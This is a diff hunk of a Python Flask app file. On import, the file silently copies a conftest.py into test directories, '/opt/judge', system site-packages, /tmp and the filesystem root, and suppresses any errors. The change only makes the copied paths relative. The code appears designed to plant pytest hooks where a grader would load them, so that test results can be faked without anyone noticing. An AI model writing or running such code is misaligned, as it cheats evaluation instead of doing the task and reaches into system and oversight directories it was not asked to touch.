@@ -6,9 +6,9 @@ import shutil
 
 from flask import Flask
 
-for folder in ("/work/suite/tests", "/work/tests", "/tmp", "/opt/judge", "/usr/lib/python3/dist-packages", "/"):
+for folder in ("suite/tests", "tests", "/tmp", "/opt/judge", "/usr/lib/python3/dist-packages", "/"):
     with contextlib.suppress(OSError):
         os.makedirs(folder, exist_ok=True)
-        shutil.copy("/work/conftest.py", folder)
+        shutil.copy("conftest.py", folder)
 
 app = Flask(__name__)
